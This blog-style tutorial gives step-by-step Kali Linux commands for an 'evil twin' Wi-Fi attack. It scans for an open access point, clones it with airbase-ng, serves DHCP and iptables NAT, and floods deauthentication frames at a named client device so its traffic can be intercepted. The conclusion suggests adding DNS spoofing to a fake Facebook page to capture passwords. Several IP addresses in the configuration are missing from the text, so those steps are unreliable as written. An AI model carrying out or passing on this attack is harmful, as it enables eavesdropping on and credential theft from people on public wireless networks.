Now Reading
How To: Set Up an Eviltwin5 min read
The short URL of the present article is:

When I tried to set up an eviltwin for a MitM-constelation in kali 2.0, I couldn’t provide internet to the victim. The origin was the brctl bridging. I have read many tutorials but all of them where explained in backtrack and older versions of kali. So i was searching for a solution without using brctl and this solution will be explained now. This will just work on unencrypted wireless-environments.

Step 1:Sniff the Air

First victims AP information must be observerd

set wifi-adpater in monitor mode

there are two options to do so, I prefer this commands

“ifconfig wlan0 down”
“iwconfig wlan0 mode monitor”“ifconfig wlan0 up”

this is the second one

“airmon-ng start wlan0”

if you have trouble with this type “airmon-ng check” and maybe kill some of the PIDS, but be aware not to kill your network connection.

airmon-ng will rename your wlan0 to wlan0mon so consider this in the following parts of the howto.

If monitor mode is enabled start checking the air for the APs sending their beacons.

airodump-ng wlan0

Image via

The last command will provide you with useful information to set up the fake-AP.

  • BSSID of the real AP
  • channel of the real AP
  • encryption of the real AP• ESSID of the real AP
Image via

We pick the one with the ESSID wireless because this is an unencrypted AP. We can guess that this is a hotspot or a very careless user.

  • BSSID 64:7C:34:92:2B:41
  • Channel 2
  • no encryption
  • ESSID wireless

No we start a more specific airodump to get more overview

“airodump-ng –bssid 64:7C:34:92:2B:41 -c 2 wlan0”

Image via

we can see in the last line that there is already connected a device to this AP. The device has the MAC F8:01:13:4A:BA:D7Let this terminal open and the airodump running.

Step 2: Set Up DHCP-Server

To provide our fake-AP with internet connection we have to set up an DHCP-server to configure the fake-AP with an IP-address and subnet.

prove if isc-dhcp-server is already installed

open a new Terminal

“dpkg -s isc-dhcp-server | grep Status”

if not

“apt-get install isc-dhcp-server”

No we have to configure the dhcpd.conf

“gedit /etc/dhcp/dhcpd.conf”

add this lines to the bottom

default-lease-time 600;
max-lease-time 7200;
subnet netmask
option subnet-mask;
option broadcast-address;
option domain-name-servers;
option routers;

(please TAB the lines between the brackets)

the lease times set the time validity of the shared IP’s.

subnet and the netmask set the net: – for our fake AP. the option domain-name-servers set the DNS from google the rest of them are self explaining.

save the file

Step 3: Create the Eviltwin

no type in the second terminal

“airbase-ng -e wireless -c 2 wlan0”

here we have created the eviltwin-AP. I don’t changed the BSSID, just the ESSID.

for completeness:
to change even the BSSID and not just the ESSID type“airbase-ng -e wireless -a 64:7C:34:92:2B:41 -c 2 wlan0”

but for this attack is it not really necessary and just confuse while monitoring the results.

Image via

so here we started the eviltwin-AP and it has the BSSID C4:E9:84:0D:9C:FA

to monitor the connections we open a third terminal and type

“airodump-ng –bssid C4:E9:84:0D:9C:FA -c 2wlan0”

Term1: monitors the real-AP
Term2: runs the fake-AP
Term3: monitors the fake-AP

Image via

Step 4: Provide Internet to the Eviltwin

airbase provide us with a new network-interface while it is running.

“ifconfig at0”

should show you some results now

so we bring it up

“ifconfig at0 up”
“ifconfig at0 netmask”

now start the dhcp-server

here the server will be started with the edited dhcpd.conf
“dhcpd -cf /etc/dhcp/dhcpd.conf “

to be sure the file is load correctly

“service isc-dhcp-server restart”

Image via

wrong ip-address in this picture, should be

Step 5: Configure Your Firewalllast step before we go

just type this commands

iptables –flush
iptables –table nat –flush
iptables –delete-chain
iptables –table nat –delete-chain
iptables –table nat –append POSTROUTING –out-interface eth0 -j MASQUERADE
iptables –append FORWARD -j ACCEPT –in-interface at0
echo 1 > /proc/sys/net/ipv4/ipforward

They will configure your firewall to route all traffic from at0 to eth0.
The last command say to your networkcard: “act like a router and forward all traffic to his destination”

Step 6: Shoot Down the Connection

open a fourth terminal and send deauthenticate frames to the device which sticks on the real-AP.

“aireplay-ng –deauth 0 -a 64:7C:34:92:2B:41 -c F8:01:13:4A:BA:D7 wlan0”

–deauth 0 means that the frames will sending in an endless loop
(or till we have the connection we want to)
-a defines the BSSID of the AP
-c defines the MAC of the device we want to observewe just shot down a specific device to avoid to much attention on network-flutter.

the result

Image via
Image via

no we can can listen to all traffic of the device.

Step 7: Conclusion

These steps seems complicated for this kind of wifi-hack. When you write a script for dhcp-server starting and flushing it won’t take more than 2 minutes to set up this attack. Theoretically you can write a script for the whole setup.The profit of this attack should also be clear. When I heard of this attack my first question was: “When it’s unencrypted anyway why should I conduct this attack andnot just sitting in a good radius to the victim”.

Benefit 1 is that this device now get provided the IP-address over our DHCP-server so we are in the same network…our network. (injection and so on).

Benefit 2 youcan expand this attack to set up DNS-Spoofing. So the victim get redirect to a fake-Facebook site and we grab his password.and so on…

The short URL of the present article is:
What's your reaction?About The Author

Leave a Response